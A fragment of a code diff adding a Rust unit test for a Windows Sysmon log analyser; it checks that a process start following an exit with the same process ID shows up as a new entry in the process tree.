+            "{want} missing from {all:#?}"
+        );
+    }
+    // a start after an exit of the same pid is a new process
+    let records = [
+        serde_json::json!({"EventID": 1, "Channel": SYSMON, "ProcessId": 900, "ParentProcessId": 4, "Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd /c echo a"}),
+        serde_json::json!({"EventID": 5, "Channel": SYSMON, "ProcessId": 900, "Image": "C:\\Windows\\System32\\cmd.exe"}),
+        serde_json::json!({"EventID": 1, "Channel": SYSMON, "ProcessId": 900, "ParentProcessId": 4, "Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd /c echo a"}),
+    ];
+    let f = analyse(&read("reuse.ndjson", &win_lines(&records)).1);
+    assert_eq!(f.process_tree.len(), 1);
+    assert_eq!(f.process_tree[0].children.len(), 2, "{:#?}", f.process_tree);
+}
